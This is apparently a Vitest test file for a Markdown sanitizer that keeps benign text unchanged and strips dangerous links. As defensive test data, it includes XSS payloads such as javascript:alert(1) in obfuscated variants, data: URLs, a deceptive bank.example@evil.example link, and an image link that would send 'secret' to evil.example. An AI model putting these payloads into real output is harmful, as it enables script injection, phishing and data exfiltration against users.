// Markdown for programs: as its author wrote it, down to the character, unless it leads where no reader should be sent.
import { describe, expect, test } from 'vitest'
import { safeMarkdown } from '../../../src/markdown/index.ts'

describe('Markdown for programs', () => {
  test.each([
    'open __init__.py and snake__case <b>x</b> [x](y)',
    '{"content":[{"type":"text","text":"a_b*c [1](2)"}]}',
    'every__echo, *not closed, 2 * 3 * 4, a\\b',
    '* one\n* two\n\n1) three\n\n\n   four  \nfive',
    'See [the docs](/docs/api#x), [this](https://a.example/?a=1&b=2), <https://b.example>, mail [me](mailto:a@b.example).',
    '[a][1] and ![chart](charts/1.png)\n\n[1]: https://a.example "A"',
    '```html\n<script>[x](javascript:alert(1))</script>\n```\n\n`[x](javascript:1)`',
    'a list [1]: and a [note]: this is none',
    'javascript:void(0) in plain words, data:text/html too',
  ])('%j stays as it was written', (text) => {
    expect(safeMarkdown(text)).toBe(text)
  })

  test.each([
    ['[x](javascript:alert(1))', 'x'],
    ['[x](JaVaScript:alert(1))', 'x'],
    ['[x](java&#115;cript:alert(1))', 'x'],
    ['[x](<java\tscript:alert(1)>)', 'x'],
    ['<javascript:alert(1)>', 'javascript:alert(1)'],
    ['[x](data:text/html,hi)', 'x'],
    ['[bank](https://bank.example@evil.example/)', 'bank'],
    ['![x](https://evil.example/?q=secret)', '[x](https://evil.example/?q=secret)'],
  ])('%j leads nowhere any more', (text, clean) => {
    expect(safeMarkdown(text)).toBe(clean)
    expect(safeMarkdown(`> - ${text}`)).toBe(`> - ${clean}`)
  })

  test.each(['[x][1]\n\n[1]: javascript:alert(1)', '> [1]: <javascript:alert(1)>', '[1]:\njava&#115;cript:alert(1)'])(
    '%j defines no address any more',
    (text) => {
      expect(safeMarkdown(text)).toContain('\\[1]:')
    },
  )

  test('only the block that leads astray is written anew', () => {
    const text = '# snake__case\n\n[x](javascript:1) and a__b\n\n* last__line\n  [z](w)'
    expect(safeMarkdown(text)).toBe('# snake__case\n\nx and a\\_\\_b\n\n* last__line\n  [z](w)')
  })

  test('what cannot be seen is left out, and the end of a line is one character', () => {
    expect(safeMarkdown('a\u202eb\r\nc__d')).toBe('ab\nc__d')
  })

  test('beyond what is read as blocks nothing leads anywhere', () => {
    const text = `${'- a\n\n'.repeat(6000)}[x](javascript:alert(1))`
    expect(safeMarkdown(text)).not.toMatch(/(?<!\\)\[x\]\(javascript/)
  })
})
